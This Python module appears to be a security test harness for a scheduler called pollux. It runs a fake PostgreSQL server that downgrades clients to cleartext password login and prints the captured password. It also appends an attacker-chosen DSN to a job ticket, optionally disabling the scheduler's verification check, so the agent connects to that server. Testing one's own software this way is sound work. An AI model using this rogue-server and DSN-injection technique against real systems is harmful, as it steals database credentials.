"""A false Postgres, and an agent that is told to report to it.

python -m contrib.attack.hands.postgres serve HOST SECONDS     ask for a password in clear, and print it
python -m contrib.attack.hands.postgres report TICKET DSN [unchecked]
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import socket
import struct
import sys
from pathlib import Path


def serve(host: str, seconds: float) -> None:
    """Take one login. PostgreSQL manual, section 55.7."""
    listener = socket.create_server((host, 0))
    listener.settimeout(seconds)
    print(listener.getsockname()[1], flush=True)
    with contextlib.suppress(OSError):
        connection, _ = listener.accept()
        connection.settimeout(5)
        size, code = struct.unpack("!II", connection.recv(8))
        if code in (80877103, 80877104):  # TLS or GSSAPI: no
            connection.sendall(b"N")
            size, _ = struct.unpack("!II", connection.recv(8))
        connection.recv(size - 8)
        connection.sendall(b"R" + struct.pack("!II", 8, 3))
        print(connection.recv(4096)[5:].rstrip(b"\0").decode(), flush=True)
        return
    print("nobody came", flush=True)


def report(ticket: str, dsn: str, *, unchecked: bool) -> None:
    from pollux.scheduler import database  # noqa: PLC0415 - the false server needs it not
    from pollux.slurm_job.ticket import Ticket  # noqa: PLC0415 - as above

    if unchecked:
        database.require_verified = lambda words: None  # type: ignore[assignment]
    facts = json.loads(Path(ticket).read_text())
    names = {field.name for field in dataclasses.fields(Ticket)}
    words = {name: value for name, value in facts.items() if name in names}
    made = Ticket(**{**words, "dsn": f"{facts['dsn']} {dsn}"})
    try:
        database.JobDatabase(made, answer_s=4.0).instructions()
    except (database.DatabaseAway, database.TicketOver) as error:
        print(f"{type(error).__name__}: {error}", flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "serve":
        serve(sys.argv[2], float(sys.argv[3]))
    else:
        report(sys.argv[2], sys.argv[3], unchecked="unchecked" in sys.argv[4:])
